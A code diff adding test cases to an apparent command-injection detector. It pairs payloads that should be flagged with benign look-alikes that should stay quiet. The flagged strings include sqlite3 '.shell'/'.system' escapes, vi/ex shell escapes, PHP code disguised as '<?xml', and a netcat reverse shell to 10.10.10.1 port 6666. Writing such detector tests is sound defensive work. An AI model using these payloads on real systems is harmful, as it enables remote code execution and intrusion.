@@ -68,3 +68,53 @@ exampleTable(
   ['q', 'json', 'form'],
   ['xss'],
 );
+
+// sqlite3's shell commands after a separator: `.shell`/`.system` by any prefix of two letters or
+// more, quoted or after blanks, and the commands that list a database when the value opens with a
+// separator. A file name with `.sh`, prose naming a dot command: quiet.
+exampleTable(
+  detector,
+  [
+    ['rce', '1;.sh whoami'],
+    ['rce', '1;."shell" whoami'],
+    ['rce', ';\\n.databases'],
+    ['rce', '";\\n. shell nc 10.10.10.1 6666 -e sh\\n'],
+    ['rce', ';.sy id'],
+  ],
+  ['see run.sh; .shell is a sqlite command', 'notes;.tables and more', 'build.sh;deploy.sh'],
+  ['q', 'json', 'form'],
+  ['rce'],
+);
+
+// vi and ex given an ex command that runs a shell (`+!cmd`, `+silent !cmd`, `-c ':!cmd'`). An
+// editor opened at a line or with an option set: quiet.
+exampleTable(
+  detector,
+  [
+    ['rce', ';vi dddd +silent\\ \\!whoami +wq'],
+    ['rce', ';ex dddd +silent\\ \\!whoami +wq\n'],
+    ['rce', "vim -c ':!id' x"],
+  ],
+  ['vi +10 file.txt', 'open it in vim with +set nu', 'vim +set nu notes.txt'],
+  ['q', 'json', 'form'],
+  ['rce'],
+);
+
+// `<?xml` that is PHP's short tag before a label or a call, not an XML declaration. Word's pasted
+// namespace instruction and XML declarations: quiet.
+exampleTable(
+  detector,
+  [
+    ['rce', '<?xml:echo 1;'],
+    ['rce', '<?xml :echo 1;'],
+    ['rce', '<?xml \t\t ();echo 1;'],
+    ['rce', '<?xml :fputCSV($f, array("foo", "bar"));'],
+  ],
+  [
+    '<?xml:namespace prefix = o ns = "urn:schemas-microsoft-com:office:office" />',
+    '<?xml version="1.0"?><a>x</a>',
+    '<?xml version="1.0" encoding="UTF-8"?>\n<note>call (555) 0100</note>',
+  ],
+  ['q', 'json', 'form'],
+  ['rce'],
+);
